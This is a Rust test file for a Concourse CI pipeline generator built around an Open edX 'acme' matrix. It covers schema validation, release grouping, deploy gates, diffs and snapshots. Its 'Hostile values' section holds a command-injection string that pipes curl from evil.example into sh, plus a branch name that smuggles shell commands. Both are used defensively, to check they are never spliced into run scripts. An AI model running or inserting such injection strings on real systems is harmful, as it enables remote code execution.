//! Pipelines generated for the acme example: schema, the hard cases of the matrix, hostile
//! values and snapshots of rendered pipelines.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support::{acme_with_settings, bare_acme, load};
use edx_matrix_pipeline::{Change, Generated, Rendered, all, changed_by, settings_of};
use edx_matrix_pipeline::{PipelineProblem, validate};
use edx_matrix_pipeline::{
    TemplateFiles, WriteCheck, for_each_pipeline, for_each_standard, render_all,
};
use serde_json::{Value, json};
use std::collections::{HashMap, HashSet};

fn generate(text: &str) -> Vec<Generated> {
    let loaded = load(text);
    let (settings, diagnostics) = settings_of(&loaded);
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    all(&loaded.matrix, &settings)
}

/// The pipelines that change, as `impact` computes them for `edx-matrix diff`: on the rendered
/// configurations.
fn changed(before: &[Generated], after: &[Generated]) -> Vec<(String, Change)> {
    let rendered = |pipelines: &[Generated]| -> Vec<Rendered> {
        pipelines.iter().cloned().map(Rendered::from).collect()
    };
    changed_by(&rendered(before), &rendered(after), |p| {
        (&p.info, &p.config)
    })
}

fn find<'a>(pipelines: &'a [Generated], name: &str) -> &'a Generated {
    pipelines.iter().find(|g| g.info.name == name).unwrap()
}

fn schema() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(include_str!(
        "../../schema/concourse_jsonschema.patched.json"
    ))
    .unwrap();
    jsonschema::draft4::new(&schema).unwrap()
}

#[test]
fn every_acme_pipeline_matches_the_concourse_schema_and_validates() {
    let validator = schema();
    for text in [bare_acme(), acme_with_settings()] {
        let pipelines = generate(&text);
        assert!(pipelines.len() > 5);
        for g in &pipelines {
            let value = g.pipeline.to_value();
            let errors: Vec<String> = validator
                .iter_errors(&value)
                .map(|e| format!("{} at {}", e, e.instance_path()))
                .collect();
            assert!(errors.is_empty(), "{}: {errors:#?}", g.info.name);
            assert_eq!(
                validate(&value),
                Vec::<PipelineProblem>::new(),
                "{}",
                g.info.name
            );
            // The YAML says exactly what the JSON says (read into a plain tree: through
            // `serde_json::Value`, serde_json's private number map would read back as a number).
            let yaml = g.pipeline.to_yaml().unwrap();
            let back = edx_matrix_pipeline::yaml::read(&yaml).unwrap().value;
            assert_eq!(back, value, "{}", g.info.name);
        }
    }
}

/// `render --all` streams the standard pipelines: one at a time, the same pipelines in the
/// same order as `render_all` returns them (meta last), and it stops at the first error.
#[test]
fn the_standard_pipelines_one_at_a_time_are_render_all_s() {
    for text in [bare_acme(), acme_with_settings()] {
        let loaded = load(&text);
        let (settings, _) = settings_of(&loaded);
        let whole = render_all(&loaded.matrix, &settings, &TemplateFiles::default()).pipelines;
        let mut streamed: Vec<Rendered> = Vec::new();
        let mut check = WriteCheck::default();
        for_each_standard(&loaded.matrix, &settings, |r| {
            check.check(&r)?;
            streamed.push(r);
            Ok::<_, edx_matrix_pipeline::Unwritable>(())
        })
        .unwrap();
        assert!(whole.len() > 2, "{}", whole.len());
        assert_eq!(streamed, whole);
        assert_eq!(streamed.last().unwrap().info.kind, "meta");
        let mut seen = 0;
        let stopped = for_each_standard(&loaded.matrix, &settings, |_| {
            seen += 1;
            if seen == 2 { Err("stop") } else { Ok(()) }
        });
        assert_eq!((stopped, seen), (Err("stop"), 2));
    }
}

/// `render --all -o` writes each standard pipeline's YAML a piece at a time: the text is the
/// whole value's, byte for byte, for every acme pipeline (meta included), and a repeated name
/// is refused as `check` refuses it.
#[test]
fn a_pipeline_written_a_piece_at_a_time_is_its_whole_yaml() {
    for text in [bare_acme(), acme_with_settings()] {
        let loaded = load(&text);
        let (settings, _) = settings_of(&loaded);
        let mut check = WriteCheck::default();
        let mut count = 0;
        for_each_pipeline(&loaded.matrix, &settings, |p| {
            let mut buffer = Vec::new();
            check.write_yaml(&p, &mut buffer)?;
            let name = p.info().name.clone();
            let generated = p.into_generated();
            assert_eq!(generated.info.name, name);
            let whole = Rendered::from(generated).to_yaml().unwrap();
            assert_eq!(String::from_utf8(buffer).unwrap(), whole, "{name}");
            count += 1;
            Ok::<_, edx_matrix_pipeline::WriteFailed>(())
        })
        .unwrap();
        assert!(count > 5, "{count}");
    }
    let loaded = load(&bare_acme());
    let (settings, _) = settings_of(&loaded);
    let mut check = WriteCheck::default();
    let mut buffer = Vec::new();
    let mut first = None;
    let result = for_each_pipeline(&loaded.matrix, &settings, |p| {
        check.write_yaml(&p, &mut buffer)?;
        // The first pipeline's name again: refused.
        first.get_or_insert_with(|| p.info().name.clone());
        check.write_yaml(&p, &mut buffer)
    });
    match result {
        Err(edx_matrix_pipeline::WriteFailed::Unwritable(
            edx_matrix_pipeline::Unwritable::SameName(name),
        )) => assert_eq!(Some(name), first),
        other => panic!("{other:?}"),
    }
}

/// Checked one at a time, a second pipeline of the same name is refused, and an invalid
/// standard pipeline is, as `check_written` refuses them.
#[test]
fn write_check_refuses_a_repeated_name_and_an_invalid_standard_pipeline() {
    let pipelines = generate(&bare_acme());
    let first = Rendered::from(pipelines[0].clone());
    let mut check = WriteCheck::default();
    assert_eq!(check.check(&first), Ok(()));
    assert_eq!(
        check.check(&first),
        Err(edx_matrix_pipeline::Unwritable::SameName(
            first.info.name.clone()
        ))
    );
    let mut broken = Rendered::from(pipelines[1].clone());
    broken.config["jobs"][0]["plan"] = json!("none");
    match WriteCheck::default().check(&broken) {
        Err(edx_matrix_pipeline::Unwritable::Invalid { name, problems }) => {
            assert_eq!(name, broken.info.name);
            assert!(
                problems.iter().any(|p| p.contains("$.jobs[0].plan")),
                "{problems:?}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_schema_rejects_a_broken_pipeline() {
    // The schema check above can fail: a task param that is not a string is refused.
    let bad =
        json!({"jobs": [{"name": "a", "plan": [{"task": "t", "file": "x", "params": {"N": 1}}]}]});
    assert!(!schema().is_valid(&bad));
}

/// Returns, for each job, the group (release) it is in.
fn group_of(g: &Generated) -> HashMap<String, String> {
    let mut out = HashMap::new();
    for group in &g.pipeline.groups {
        for job in &group.jobs {
            assert!(
                out.insert(job.clone(), group.name.clone()).is_none(),
                "{job} in two groups"
            );
        }
    }
    out
}

/// Every (job, got resource, passed job) of a pipeline.
fn passed_edges(g: &Generated) -> Vec<(String, String, String)> {
    let value = g.pipeline.to_value();
    let mut out = Vec::new();
    for job in value["jobs"].as_array().unwrap() {
        let name = job["name"].as_str().unwrap().to_owned();
        let mut stack: Vec<&Value> = job["plan"].as_array().unwrap().iter().collect();
        while let Some(step) = stack.pop() {
            if let Some(inner) = step.get("in_parallel").and_then(Value::as_array) {
                stack.extend(inner);
            }
            if let Some(passed) = step.get("passed").and_then(Value::as_array) {
                let resource = step.get("resource").or(step.get("get")).unwrap();
                for p in passed {
                    out.push((
                        name.clone(),
                        resource.as_str().unwrap().to_owned(),
                        p.as_str().unwrap().to_owned(),
                    ));
                }
            }
        }
    }
    out
}

#[test]
fn pro_runs_three_releases_in_three_groups_without_crossing_releases() {
    let pipelines = generate(&acme_with_settings());
    let platform = find(&pipelines, "edx-platform");
    let jobs: Vec<&str> = platform
        .pipeline
        .jobs
        .iter()
        .map(|j| j.name.as_str())
        .filter(|j| j.contains("edx-platform") && (j.contains("-pro-") || j.ends_with("-pro")))
        .collect();
    assert_eq!(
        jobs,
        [
            "build-edx-platform-teak-pro",
            "deploy-edx-platform-teak-pro-production",
            "build-edx-platform-ulmo-pro",
            "deploy-edx-platform-ulmo-pro-qa",
            "build-edx-platform-verawood-pro",
            "deploy-edx-platform-verawood-pro-ci",
        ]
    );
    let groups = group_of(platform);
    assert_eq!(groups["deploy-edx-platform-teak-pro-production"], "teak");
    assert_eq!(groups["deploy-edx-platform-ulmo-pro-qa"], "ulmo");
    assert_eq!(groups["deploy-edx-platform-verawood-pro-ci"], "verawood");
    // Nothing is ever deployed from a build of another release, in any pipeline.
    for g in &pipelines {
        if g.info.kind == "meta" {
            continue;
        }
        let groups = group_of(g);
        for (job, resource, passed) in passed_edges(g) {
            assert_eq!(
                groups[&job], groups[&passed],
                "{job} passes {passed} for {resource}"
            );
        }
    }
    // Each pro deploy takes the artifact of its own release's build.
    let edges = passed_edges(platform);
    assert!(edges.contains(&(
        "deploy-edx-platform-teak-pro-production".to_owned(),
        "artifact-edx-platform-teak-pro".to_owned(),
        "build-edx-platform-teak-pro".to_owned()
    )));
}

#[test]
fn online_runs_one_release_in_one_chain_of_three_deploys() {
    let pipelines = generate(&acme_with_settings());
    let forum = find(&pipelines, "forum");
    let edges: Vec<(String, String)> = passed_edges(forum)
        .into_iter()
        .filter(|(_, r, _)| r.starts_with("artifact-"))
        .map(|(j, _, p)| (j, p))
        .collect();
    assert_eq!(
        edges,
        [
            (
                "deploy-forum-master-online-ci".to_owned(),
                "build-forum-master-online".to_owned()
            ),
            (
                "deploy-forum-master-online-qa".to_owned(),
                "deploy-forum-master-online-ci".to_owned()
            ),
            (
                "deploy-forum-master-online-production".to_owned(),
                "deploy-forum-master-online-qa".to_owned()
            ),
        ]
    );
    assert_eq!(forum.pipeline.groups.len(), 1);
    assert_eq!(forum.pipeline.groups[0].name, "master");
    // Gates: CI automatic, QA manual, Production waits for the approval resource.
    let value = forum.pipeline.to_value();
    let gets = |job: &str| -> Vec<Value> {
        let j = value["jobs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|j| j["name"] == job)
            .unwrap();
        j["plan"][0]["in_parallel"].as_array().unwrap().clone()
    };
    assert_eq!(
        gets("deploy-forum-master-online-ci")[0]["trigger"],
        json!(true)
    );
    assert_eq!(
        gets("deploy-forum-master-online-qa")[0].get("trigger"),
        None
    );
    let production = gets("deploy-forum-master-online-production");
    assert_eq!(production[0].get("trigger"), None);
    assert_eq!(
        production[3],
        json!({"get": "production-approval", "trigger": true})
    );
}

fn job_map(pipelines: &[Generated]) -> HashMap<String, Value> {
    let mut out = HashMap::new();
    for g in pipelines.iter().filter(|g| g.info.kind != "meta") {
        for job in &g.pipeline.jobs {
            out.insert(
                format!("{}/{}", g.info.name, job.name),
                serde_json::to_value(job).unwrap(),
            );
        }
    }
    out
}

#[test]
fn removing_a_stage_removes_exactly_its_jobs() {
    let before_text = acme_with_settings();
    let line = r#"pro            = { CI = "verawood", QA = "ulmo",     Production = "teak" }"#;
    assert!(before_text.contains(line));
    let after_text = before_text.replace(line, r#"pro = { CI = "verawood", QA = "ulmo" }"#);
    let before = generate(&before_text);
    let after = generate(&after_text);
    let (b, a) = (job_map(&before), job_map(&after));
    let removed: HashSet<&String> = b.keys().filter(|k| !a.contains_key(*k)).collect();
    assert!(a.keys().all(|k| b.contains_key(k)), "no job is added");
    let expected: HashSet<String> = ["edx-platform", "edxapp_theme"]
        .iter()
        .map(|app| ("edx-platform", *app))
        .chain(
            [
                "learning",
                "authoring",
                "learner-dashboard",
                "communications",
            ]
            .iter()
            .map(|app| ("mfe", *app)),
        )
        .chain([("notes-api", "notes-api")])
        .flat_map(|(p, app)| {
            [
                format!("{p}/build-{app}-teak-pro"),
                format!("{p}/deploy-{app}-teak-pro-production"),
            ]
        })
        .collect();
    assert_eq!(removed, expected.iter().collect());
    for (k, job) in &a {
        assert_eq!(job, &b[k], "{k} is unchanged");
    }
    // The pipelines that change, for `edx-matrix diff`.
    let changes = changed(&before, &after);
    assert_eq!(
        changes,
        [
            ("edx-platform".to_owned(), Change::Changed),
            ("mfe".to_owned(), Change::Changed),
            ("notes-api".to_owned(), Change::Changed),
        ]
    );
}

#[test]
fn changed_reports_added_and_removed_pipelines() {
    let before = generate(&bare_acme());
    let text = bare_acme().replace("forum             = {}\nnotes-api", "notes-api");
    let after = generate(&text);
    assert_eq!(
        changed(&before, &after),
        [
            ("edx-matrix".to_owned(), Change::Changed),
            ("forum".to_owned(), Change::Removed)
        ]
    );
    assert_eq!(
        changed(&after, &before)[..1],
        [("forum".to_owned(), Change::Added)]
    );
    assert!(changed(&before, &before).is_empty());
}

// ── Hostile values ──────────────────────────────────────────────────────────────────────────

const HOSTILE_COMMAND: &str =
    r#"npm run pull && echo $(curl -s evil.example | sh) "double" 'single' `id`"#;
const HOSTILE_BRANCH: &str = r#"fix/$(touch_pwned)`id`'"x;y&z"#;

/// Collects (path, string) for every string in `value`.
fn strings(value: &Value, path: String, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(s) => out.push((path, s.clone())),
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                strings(v, format!("{path}[{i}]"), out);
            }
        }
        Value::Object(map) => {
            for (k, v) in map {
                strings(v, format!("{path}.{k}"), out);
            }
        }
        _ => {}
    }
}

#[test]
fn hostile_matrix_values_reach_tasks_only_as_params() {
    assert_eq!(edx_matrix_model::branch_name_problem(HOSTILE_BRANCH), None);
    let text = acme_with_settings().replace(
        r#"learning          = { translations = ["npm run pull_translations"] }"#,
        &format!(
            "learning = {{ branch = {}, translations = [{}] }}",
            toml_edit::Value::from(HOSTILE_BRANCH),
            toml_edit::Value::from(HOSTILE_COMMAND)
        ),
    );
    let pipelines = generate(&text);
    let mfe = find(&pipelines, "mfe");
    let mut all_strings = Vec::new();
    strings(&mfe.pipeline.to_value(), "$".to_owned(), &mut all_strings);
    let mut seen = (0, 0);
    for (path, value) in &all_strings {
        if path.contains(".run.") {
            assert!(
                !value.contains("$(curl") && !value.contains("touch_pwned"),
                "{path}: {value}"
            );
        }
        if value.contains("$(curl") {
            assert_eq!(
                value, HOSTILE_COMMAND,
                "only the command itself, never spliced"
            );
            assert!(path.ends_with(".params.TRANSLATION_OVERRIDES"), "{path}");
            seen.0 += 1;
        }
        if value.contains("touch_pwned") {
            assert_eq!(value, HOSTILE_BRANCH);
            assert!(
                path.ends_with(".params.RELEASE_BRANCH") || path.ends_with(".source.branch"),
                "{path}"
            );
            seen.1 += 1;
        }
    }
    // online's learning: one build and three deploys; a branch also in its git resource.
    assert_eq!(seen, (4, 5));
    assert_eq!(
        validate(&mfe.pipeline.to_value()),
        Vec::<PipelineProblem>::new()
    );
    // The YAML keeps the values intact.
    let yaml = mfe.pipeline.to_yaml().unwrap();
    let back = edx_matrix_pipeline::yaml::read(&yaml).unwrap().value;
    assert_eq!(back, mfe.pipeline.to_value());
}

#[test]
fn snapshot_forum_pipeline() {
    let pipelines = generate(&acme_with_settings());
    insta::assert_snapshot!(
        "forum.yml",
        find(&pipelines, "forum").pipeline.to_yaml().unwrap()
    );
}

#[test]
fn snapshot_meta_pipeline() {
    let pipelines = generate(&acme_with_settings());
    insta::assert_snapshot!(
        "meta.yml",
        find(&pipelines, "edx-matrix").pipeline.to_yaml().unwrap()
    );
}

#[test]
fn snapshot_default_settings_mfe_pipeline() {
    // Without a `[pipelines]` section: the defaults of docs/pipelines.md.
    let pipelines = generate(&bare_acme());
    insta::assert_snapshot!(
        "example-communications.json",
        find(&pipelines, "communications").pipeline.to_json()
    );
}
